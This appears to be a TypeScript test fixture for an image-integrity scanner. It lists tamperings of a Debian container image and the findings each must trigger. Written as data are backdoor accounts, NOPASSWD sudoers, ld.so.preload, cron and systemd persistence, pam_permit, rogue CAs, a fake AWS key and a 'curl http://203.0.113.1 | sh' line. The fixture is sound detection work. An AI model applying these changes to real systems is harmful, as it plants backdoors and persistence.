/** One thing changed in an honest image of Debian packages, in each way that somebody who means harm may think of. */
import { createHash } from 'node:crypto';
import { changed, made, type Member } from '../../scripts/demo/tar-surgery.ts';
import type { FindingCode } from '../../src/model/finding-codes.ts';
import type { Severity } from '../../src/model/verdict.ts';
import { pax } from '../support/tar.ts';
import { file, folder, gone, hardLink, link, opaque, type OpenImage } from './open-image.ts';
import { CAPABILITY } from './tamperings.ts';
import { program } from './world.ts';

export type DebianTampering = {
  tag: string;
  /** The set that is tampered with; `table` where absent. */
  of?: string;
  publish(image: OpenImage, tag: string): Promise<void>;
  /** A finding of at least this severity that names the path and that the honest image does not have. */
  findings: [code: FindingCode, path: string | RegExp, severity: Severity][];
};

const NGINX = 'usr/sbin/nginx';
const EVIL = program('evil');
const SCRIPT = '#!/bin/sh\nexec /usr/lib/evil\n';
const CERTIFICATE = `-----BEGIN CERTIFICATE-----\n${'MIIB'.repeat(16)}\n-----END CERTIFICATE-----\n`;
const ID = 'a'.repeat(32);

/** One layer more. */
function layer(tag: string, change: (image: OpenImage) => Member | Member[], ...findings: DebianTampering['findings']): DebianTampering {
  return { tag, publish: (image, to) => image.publish(to, [change(image)].flat()), findings };
}

/** A file that was not there. */
function added(tag: string, name: string, content: string | Buffer, code: FindingCode, severity: Severity, mode = 0o644): DebianTampering {
  return layer(tag, () => file(name, content, { mode }), [code, `/${name}`, severity]);
}

/** More at the end of a file that is there. */
function appended(tag: string, name: string, text: string, code: FindingCode, severity: Severity): DebianTampering {
  return layer(tag, (image) => image.edit(name, (before) => `${before}${text}`), [code, `/${name}`, severity]);
}

function withXattr(member: Member, name: string, value: string): Member {
  return { ...member, extended: Buffer.concat([member.extended, pax([[`SCHILY.xattr.${name}`, value]])]) };
}

const md5 = (bytes: Buffer): string => createHash('md5').update(bytes).digest('hex');

const CONTENTS: DebianTampering[] = [
  layer('program', (image) => image.flip(NGINX), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer(
    'program-and-checksums',
    (image) => {
      const evil = image.flip(NGINX);
      const list = image.find(/^var\/lib\/dpkg\/info\/nginx(?::\w+)?\.md5sums$/);
      return [evil, image.edit(list, (text) => text.replace(md5(image.member(NGINX).content), md5(evil.content)))];
    },
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['package-database-forged', '/var/lib/dpkg/info/nginx.md5sums', 'high'],
  ),
  layer('checksums', (image) => image.edit('var/lib/dpkg/info/nginx.md5sums', (text) => text.replace(/^../, '00')), [
    'package-database-forged',
    '/var/lib/dpkg/info/nginx.md5sums',
    'high',
  ]),
  layer('data', (image) => image.edit('usr/lib/os-release', (text) => text.replace('Debian', 'Debuan')), [
    'packaged-file-replaced',
    '/usr/lib/os-release',
    'medium',
  ]),
  layer('perl-module', (image) => image.edit(image.find(/^usr\/share\/perl5\/Debconf\/Db\.pm$/), (text) => `${text}\n`), [
    'packaged-file-replaced',
    '/usr/share/perl5/Debconf/Db.pm',
    'critical',
  ]),
  layer('maintainer-script', (image) => image.edit('var/lib/dpkg/info/nginx.postinst', (text) => `${text}${SCRIPT}`), [
    'packaged-file-replaced',
    '/var/lib/dpkg/info/nginx.postinst',
    'critical',
  ]),
  layer('keyring', (image) => image.flip('usr/share/keyrings/debian-archive-keyring.gpg'), [
    'packaged-file-replaced',
    '/usr/share/keyrings/debian-archive-keyring.gpg',
    'critical',
  ]),
  layer('trusted-ca', (image) => image.edit('usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt', () => CERTIFICATE), [
    'packaged-file-replaced',
    '/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt',
    'critical',
  ]),
  appended('conffile', 'etc/nginx/nginx.conf', 'load_module /tmp/x.so;\n', 'conffile-edited', 'medium'),
  appended('bashrc-of-all', 'etc/bash.bashrc', 'eval "$X"\n', 'conffile-edited', 'medium'),
  layer('conffile-link', () => link('etc/nginx/nginx.conf', '/tmp/nginx.conf'), [
    'packaged-file-replaced',
    '/etc/nginx/nginx.conf',
    'medium',
  ]),
];

const ATTRIBUTES: DebianTampering[] = [
  layer('mode', (image) => changed(image.member(NGINX), { mode: 0o777 }), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'critical',
  ]),
  layer('setuid', (image) => changed(image.member('usr/bin/perl'), { mode: 0o4755 }), [
    'packaged-file-attributes-changed',
    '/usr/bin/perl',
    'critical',
  ]),
  layer('setuid-gone', (image) => changed(image.member('usr/bin/su'), { mode: 0o755 }), [
    'packaged-file-attributes-changed',
    '/usr/bin/su',
    'high',
  ]),
  layer('owner', (image) => changed(image.member(NGINX), { uid: 33 }), ['packaged-file-attributes-changed', '/usr/sbin/nginx', 'high']),
  layer('secret-owner', (image) => changed(image.member('etc/shadow'), { gid: 33 }), ['account-unexpected', '/etc/shadow', 'medium']),
  layer('capability', (image) => withXattr(image.member(NGINX), 'security.capability', CAPABILITY.toString('latin1')), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'critical',
  ]),
  layer('xattr', (image) => withXattr(image.member(NGINX), 'user.note', 'x'), [
    'packaged-file-attributes-changed',
    '/usr/sbin/nginx',
    'high',
  ]),
  layer('writable-folder', (image) => changed(image.member('usr/sbin'), { mode: 0o777 }), [
    'packaged-file-attributes-changed',
    '/usr/sbin',
    'critical',
  ]),
  layer('writable-local', (image) => changed(image.member('usr/local/bin'), { mode: 0o777 }), ['world-writable', '/usr/local/bin', 'high']),
  added('setgid-program', 'usr/lib/helper', EVIL, 'setuid-unexpected', 'critical', 0o2755),
  layer(
    'capable-program',
    () => withXattr(file('usr/lib/helper', EVIL, { mode: 0o755 }), 'security.capability', CAPABILITY.toString('latin1')),
    ['capability-unexpected', '/usr/lib/helper', 'critical'],
  ),
];

const LINKS: DebianTampering[] = [
  layer('interpreter', () => link('usr/bin/python3', '/opt/python3'), ['packaged-file-replaced', '/usr/bin/python3', 'critical']),
  layer('shell', () => link('usr/bin/sh', 'bash'), ['packaged-file-replaced', '/usr/bin/sh', 'critical']),
  layer('link-for-program', () => link(NGINX, '/tmp/nginx'), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer('program-for-link', () => file('usr/bin/python3', EVIL, { mode: 0o755 }), [
    'packaged-file-replaced',
    '/usr/bin/python3',
    'critical',
  ]),
  layer('hard-link', () => hardLink(NGINX, 'usr/bin/perl'), ['packaged-file-replaced', '/usr/sbin/nginx', 'critical']),
  layer('hard-link-more', () => hardLink('usr/bin/evil', 'usr/bin/perl'), ['unexplained-code', '/usr/bin/evil', 'high']),
  layer('merged-usr', () => [folder('opt/bin'), link('bin', 'opt/bin')], ['package-database-forged', '/bin', 'high']),
  layer('alternative-out', () => link('etc/alternatives/pager', '/opt/pager'), [
    'alternative-unpackaged',
    '/etc/alternatives/pager',
    'high',
  ]),
  layer('alternative-other', () => link('etc/alternatives/pager', '/usr/bin/perl'), [
    'alternative-changed',
    '/etc/alternatives/pager',
    'medium',
  ]),
  layer('alternative-state', (image) => image.edit('var/lib/dpkg/alternatives/pager', (text) => text.replace('/bin/more', '/opt/pager')), [
    'unexplained-file',
    '/var/lib/dpkg/alternatives/pager',
    'medium',
  ]),
];

const PASSWD = 'etc/passwd';
const ACCOUNTS: DebianTampering[] = [
  appended('account', PASSWD, 'eve:x:1001:1001::/home/eve:/bin/bash\n', 'account-unexpected', 'high'),
  appended('second-root', PASSWD, 'toor:x:0:0::/root:/bin/bash\n', 'account-unexpected', 'critical'),
  layer('shell-of-www', (image) => image.edit(PASSWD, (text) => text.replace(/(www-data:.*:)[^:\n]+/, '$1/bin/bash')), [
    'account-unexpected',
    '/etc/passwd',
    'high',
  ]),
  layer('no-password', (image) => image.edit(PASSWD, (text) => text.replace('root:x:', 'root::')), [
    'password-set',
    '/etc/passwd',
    'critical',
  ]),
  layer('password', (image) => image.edit('etc/shadow', (text) => text.replace(/^root:[^:]*/, 'root:$y$j9T$abc$def')), [
    'password-set',
    '/etc/shadow',
    'critical',
  ]),
  layer('expiry', (image) => image.edit('etc/shadow', (text) => text.replace(/^(www-data:[^\n]*):99999:/m, '$1:1:')), [
    'account-unexpected',
    '/etc/shadow',
    'medium',
  ]),
  layer('member', (image) => image.edit('etc/group', (text) => text.replace(/^(sudo:.*)$/m, '$1www-data')), [
    'account-unexpected',
    '/etc/group',
    'high',
  ]),
  appended('group', 'etc/group', 'crew:x:1001:\n', 'account-unexpected', 'medium'),
  layer('group-password', (image) => image.edit('etc/gshadow', (text) => text.replace(/^shadow:[^:]*/m, 'shadow:$y$j9T$abc$def')), [
    'account-unexpected',
    '/etc/gshadow',
    'medium',
  ]),
  added('subuid', 'etc/subuid', 'www-data:0:65536\n', 'sudo-rule', 'critical'),
];

const STARTED: DebianTampering[] = [
  added('cron', 'etc/cron.d/job', '* * * * * root /usr/lib/evil\n', 'scheduled-job', 'high'),
  added('crontab-of-root', 'var/spool/cron/crontabs/root', '* * * * * /usr/lib/evil\n', 'scheduled-job', 'high', 0o600),
  added('cron-daily', 'etc/cron.daily/evil', SCRIPT, 'scheduled-job', 'high', 0o755),
  added('logrotate', 'etc/logrotate.d/evil', '/var/log/x { postrotate\n/usr/lib/evil\nendscript }\n', 'scheduled-job', 'high'),
  added('unit', 'etc/systemd/system/evil.service', '[Service]\nExecStart=/usr/lib/evil\n', 'service-unit', 'high'),
  added('drop-in', 'etc/systemd/system/nginx.service.d/x.conf', '[Service]\nExecStartPre=/usr/lib/evil\n', 'service-unit', 'high'),
  layer('wants', () => link('etc/systemd/system/multi-user.target.wants/e2scrub_all.timer', '/lib/systemd/system/e2scrub_all.timer'), [
    'service-unit',
    '/etc/systemd/system/multi-user.target.wants/e2scrub_all.timer',
    'high',
  ]),
  layer('masked', () => link('etc/systemd/system/cron.service', '/dev/null'), ['service-unit', '/etc/systemd/system/cron.service', 'high']),
  added('init-script', 'etc/init.d/evil', SCRIPT, 'service-unit', 'high', 0o755),
  layer('rc-link', () => link('etc/rc2.d/S00nginx', '../init.d/nginx'), ['service-unit', '/etc/rc2.d/S00nginx', 'high']),
  added('udev', 'etc/udev/rules.d/99-evil.rules', 'RUN+="/usr/lib/evil"\n', 'service-unit', 'high'),
  added('modprobe', 'etc/modprobe.d/evil.conf', 'install usb /usr/lib/evil\n', 'service-unit', 'high'),
  added('sysctl', 'etc/sysctl.d/99-evil.conf', 'kernel.core_pattern=|/usr/lib/evil\n', 'service-unit', 'high'),
  added('tmpfiles', 'usr/lib/tmpfiles.d/evil.conf', 'f /etc/cron.d/x\n', 'service-unit', 'high'),
  added('sysusers', 'usr/lib/sysusers.d/evil.conf', 'u eve 0\n', 'service-unit', 'high'),
  added('dbus', 'usr/share/dbus-1/system.d/evil.conf', '<busconfig/>\n', 'service-unit', 'high'),
];

const TRUST: DebianTampering[] = [
  added('preload', 'etc/ld.so.preload', '/usr/lib/evil.so\n', 'preload-configured', 'critical'),
  added('loader-path', 'etc/ld.so.conf.d/aaa.conf', '/opt/lib\n', 'loader-changed', 'high'),
  layer('loader-cache', (image) => image.flip('etc/ld.so.cache'), ['loader-changed', '/etc/ld.so.cache', 'high']),
  layer('nsswitch', (image) => image.edit('etc/nsswitch.conf', (text) => text.replace(/^hosts:.*$/m, 'hosts: evil')), [
    'loader-changed',
    '/etc/nsswitch.conf',
    'high',
  ]),
  layer('gconv', (image) => image.edit(image.find(/\/gconv\/gconv-modules$/), (text) => `${text}module EVIL// INTERNAL /opt/evil 1\n`), [
    'packaged-file-replaced',
    /\/gconv\/gconv-modules$/,
    'critical',
  ]),
  added('locale', 'usr/lib/locale/evil/LC_MESSAGES/SYS_LC_MESSAGES', 'x', 'unexplained-file', 'medium'),
  appended('ca-bundle', 'etc/ssl/certs/ca-certificates.crt', CERTIFICATE, 'apt-trust-changed', 'high'),
  layer(
    'ca-added',
    () => [
      file('usr/local/share/ca-certificates/evil.crt', CERTIFICATE),
      link('etc/ssl/certs/evil.pem', '/usr/local/share/ca-certificates/evil.crt'),
      link('etc/ssl/certs/12345678.0', 'evil.pem'),
    ],
    ['apt-trust-changed', '/usr/local/share/ca-certificates/evil.crt', 'high'],
    ['apt-trust-changed', '/etc/ssl/certs/12345678.0', 'high'],
  ),
  layer(
    'ca-snakeoil',
    () => [file('etc/ssl/certs/ssl-cert-snakeoil.pem', CERTIFICATE), link('etc/ssl/certs/12345678.0', 'ssl-cert-snakeoil.pem')],
    ['apt-trust-changed', '/etc/ssl/certs/ssl-cert-snakeoil.pem', 'high'],
    ['apt-trust-changed', '/etc/ssl/certs/12345678.0', 'high'],
  ),
  added('apt-key', 'etc/apt/trusted.gpg.d/evil.gpg', EVIL.subarray(8), 'apt-trust-changed', 'high'),
  added('apt-source', 'etc/apt/sources.list.d/evil.list', 'deb [trusted=yes] http://203.0.113.1/ ./\n', 'apt-trust-changed', 'high'),
  added('apt-hook', 'etc/apt/apt.conf.d/99evil', 'DPkg::Post-Invoke { "/usr/lib/evil"; };\n', 'apt-trust-changed', 'high'),
  added('apt-template', 'etc/apt/apt.conf.d/docker-clean', 'DPkg::Post-Invoke { "/usr/lib/evil"; };\n', 'apt-trust-changed', 'high'),
  added('policy', 'usr/sbin/policy-rc.d', '#!/bin/sh\n/usr/lib/evil\nexit 101\n', 'unexplained-code', 'high', 0o755),
  added('sudoers', 'etc/sudoers.d/evil', 'www-data ALL=(ALL) NOPASSWD: ALL\n', 'sudo-rule', 'critical'),
  added('polkit', 'usr/share/polkit-1/rules.d/00-evil.rules', 'polkit.addRule(x => "yes");\n', 'sudo-rule', 'critical'),
  layer('pam', (image) => image.edit('etc/pam.d/common-auth', (text) => `auth sufficient pam_permit.so\n${text}`), [
    'pam-changed',
    '/etc/pam.d/common-auth',
    'critical',
  ]),
  appended('shells', 'etc/shells', '/opt/sh\n', 'pam-changed', 'critical'),
  added('securetty', 'etc/securetty', 'pts/0\n', 'pam-changed', 'critical'),
  added('authorized-keys', 'root/.ssh/authorized_keys', 'ssh-ed25519 AAAA eve\n', 'ssh-access', 'critical', 0o600),
  added('profile', 'etc/profile.d/evil.sh', '/usr/lib/evil &\n', 'login-script', 'high'),
  appended('bashrc', 'root/.bashrc', '/usr/lib/evil &\n', 'login-script', 'high'),
  added('environment', 'etc/environment', 'LD_PRELOAD=/usr/lib/evil.so\n', 'login-script', 'high'),
  added('sitecustomize', 'usr/lib/python3/dist-packages/sitecustomize.py', 'import os\n', 'login-script', 'high'),
  added('pth', 'usr/lib/python3/dist-packages/evil.pth', 'import os\n', 'login-script', 'high'),
  added('perl-site', 'etc/perl/sitecustomize.pl', '1;\n', 'login-script', 'high'),
  added('motd', 'etc/update-motd.d/10-evil', SCRIPT, 'unexplained-code', 'high', 0o755),
  appended('hosts', 'etc/hosts', '203.0.113.1 deb.example.org\n', 'unexplained-file', 'medium'),
  added('resolver', 'etc/resolv.conf', 'nameserver 203.0.113.1\n', 'builder-file-leaked', 'info'),
  added('machine-id', 'etc/machine-id', `${ID}\n`, 'machine-id', 'low'),
  added('machine-id-odd', 'etc/machine-id', `${ID}\nevil\n`, 'unexplained-file', 'medium'),
];

const DPKG: DebianTampering[] = [
  layer(
    'diversion',
    (image) => [
      image.edit('var/lib/dpkg/diversions', (text) => `${text}/${NGINX}\n/${NGINX}.distrib\n:\n`),
      made({ name: `${NGINX}.distrib`, mode: 0o755 }, image.member(NGINX).content),
      image.flip(NGINX),
    ],
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['package-database-forged', '/usr/sbin/nginx', 'high'],
  ),
  layer(
    'statoverride',
    (image) => [
      file('var/lib/dpkg/statoverride', 'root root 4755 /usr/bin/perl\n'),
      changed(image.member('usr/bin/perl'), { mode: 0o4755 }),
    ],
    ['packaged-file-attributes-changed', '/usr/bin/perl', 'critical'],
    ['package-database-forged', '/usr/bin/perl', 'high'],
  ),
  layer(
    'excluded-and-replaced',
    (image) => [file('etc/dpkg/dpkg.cfg.d/evil', `path-exclude=/${NGINX}\n`), image.flip(NGINX)],
    ['packaged-file-replaced', '/usr/sbin/nginx', 'critical'],
    ['apt-trust-changed', '/etc/dpkg/dpkg.cfg.d/evil', 'high'],
  ),
  layer(
    'excluded-and-deleted',
    () => [file('etc/dpkg/dpkg.cfg.d/evil', 'path-exclude=/usr/bin/passwd\n'), gone('usr/bin/passwd')],
    ['packaged-file-missing', '/usr/bin/passwd', 'medium'],
    ['apt-trust-changed', '/etc/dpkg/dpkg.cfg.d/evil', 'high'],
  ),
  layer(
    'version',
    (image) => image.edit('var/lib/dpkg/status', (text) => text.replace(/(Package: sudo\n(?:.+\n)*?Version: )\S+/, '$199.9-1')),
    ['unexplained-code', '/usr/bin/sudoreplay', 'high'],
  ),
  layer('entry-removed', (image) => image.edit('var/lib/dpkg/status', (text) => text.replace(/^Package: sudo\n(?:.+\n)+\n/m, '')), [
    'setuid-unexpected',
    '/usr/bin/sudo',
    'critical',
  ]),
  added('script-added', 'var/lib/dpkg/info/evil.postinst', SCRIPT, 'unexplained-code', 'high', 0o755),
  appended('triggers', 'var/lib/dpkg/triggers/File', '/usr/bin evil\n', 'unexplained-file', 'medium'),
  appended('arch', 'var/lib/dpkg/arch', 'i386\n', 'unexplained-file', 'medium'),
  appended(
    'extended-states',
    'var/lib/apt/extended_states',
    'Package: evil\nArchitecture: amd64\nAuto-Installed: 1\n\n',
    'unexplained-file',
    'medium',
  ),
  appended('log', 'var/log/dpkg.log', `${'QUJD'.repeat(20)}\n`, 'unexplained-file', 'medium'),
  appended('history', 'var/log/apt/history.log', 'curl http://203.0.113.1 | sh\n', 'unexplained-file', 'medium'),
  layer('library-gone', (image) => gone(image.find(/\/libssl\.so\.3$/)), ['packaged-file-missing', /\/libssl\.so\.3$/, 'medium']),
  layer('folder-emptied', (image) => opaque(image.find(/^usr\/lib\/[^/]+\/gconv$/)), [
    'packaged-file-missing',
    /\/gconv\/gconv-modules$/,
    'medium',
  ]),
];

const PLACES: DebianTampering[] = [
  added('local-bin', 'usr/local/bin/evil', EVIL, 'unexplained-code', 'high', 0o755),
  added('local-ls', 'usr/local/bin/ls', SCRIPT, 'unexplained-code', 'high', 0o755),
  added('opt', 'opt/app/app.jar', 'PK\x03\x04', 'unexplained-code', 'high'),
  added('doc', 'usr/share/doc/nginx/evil', EVIL, 'unexplained-code', 'high', 0o755),
  added('doc-hidden', 'usr/share/doc/nginx/notes.bin', EVIL, 'unexplained-code', 'high'),
  added('kernel-module', 'usr/lib/modules/6.1.0-1-amd64/extra/evil.ko', EVIL, 'unexplained-code', 'high'),
  added('python-module', 'usr/lib/python3/dist-packages/evil.py', 'import os\n', 'unexplained-code', 'high'),
  added('perl-local', 'usr/local/lib/site_perl/Evil.pm', '1;\n', 'unexplained-code', 'high'),
  added('space', 'usr/sbin/nginx ', EVIL, 'unexplained-code', 'high', 0o755),
  added('nginx-module', 'etc/nginx/modules-enabled/50-evil.conf', 'load_module /opt/evil.so;\n', 'unexplained-file', 'medium'),
  layer('pyc', (image) => image.flip(image.find(/^usr\/lib\/python3\.\d+\/__pycache__\/os\.cpython-\d+\.pyc$/)), [
    'bytecode-unconfirmed',
    /\/__pycache__\/os\.cpython-\d+\.pyc$/,
    'high',
  ]),
  layer('pyc-added', (image) => file(image.find(/\/__pycache__\/os\.cpython-\d+\.pyc$/).replace(/pyc$/, 'opt-1.pyc'), EVIL), [
    'bytecode-unconfirmed',
    /\/__pycache__\/os\.cpython-\d+\.opt-1\.pyc$/,
    'high',
  ]),
  layer('mime-cache', (image) => image.flip('usr/share/mime/mime.cache'), ['unexplained-file', '/usr/share/mime/mime.cache', 'medium']),
  layer('device', () => made({ name: 'usr/lib/sda', type: '4', mode: 0o660, major: 8, minor: 0 }), [
    'device-unexpected',
    '/usr/lib/sda',
    'high',
  ]),
  layer('fifo', () => made({ name: 'run/pipe', type: '6', mode: 0o666 }), ['unexplained-file', '/run/pipe', 'medium']),
  {
    tag: 'replaced-and-restored',
    publish: (image, to) => image.publish(to, [image.flip(NGINX)], [image.member(NGINX)]),
    findings: [['hidden-file', '/usr/sbin/nginx', 'info']],
  },
  {
    tag: 'secret-deleted',
    publish: (image, to) =>
      image.publish(
        to,
        [file('root/.aws/credentials', 'aws_secret_access_key = h4Yk9Qz1vT7pLm2RsXc8Nw5BdJf6Gg0Ue3AaVi+o\n')],
        [gone('root/.aws')],
      ),
    findings: [['secret-in-layer', '/root/.aws/credentials', 'high']],
  },
  {
    tag: 'ld-preload',
    publish: (image, to) => image.configure(to, (config) => ({ ...config, Env: ['LD_PRELOAD=/usr/lib/evil.so'] })),
    findings: [['environment-dangerous', 'config:Env', 'high']],
  },
  {
    ...layer('cacerts', (image) => image.flip('etc/ssl/certs/java/cacerts'), ['apt-trust-changed', '/etc/ssl/certs/java/cacerts', 'high']),
    of: 'openjdk',
  },
];

export const DEBIAN_TAMPERINGS: readonly DebianTampering[] = [
  ...CONTENTS,
  ...ATTRIBUTES,
  ...LINKS,
  ...ACCOUNTS,
  ...STARTED,
  ...TRUST,
  ...DPKG,
  ...PLACES,
];
